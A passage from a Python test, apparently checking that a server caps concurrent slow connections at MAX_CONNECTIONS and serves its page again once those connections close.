        time.sleep(1)  # the server accepts what it will
        assert threading.active_count() - before <= MAX_CONNECTIONS
    finally:
        for connection in slow:
            connection.close()
    # The places free up as the connections close: the page is served again.
    deadline = time.monotonic() + 30  # a generous bound, not a timing
    while True:
        try:
            assert fetch(started, "/")[0] == 200
            break
        except (urllib.error.URLError, ConnectionError, AssertionError):
            assert time.monotonic() < deadline, "the server never served again"
            time.sleep(0.2)
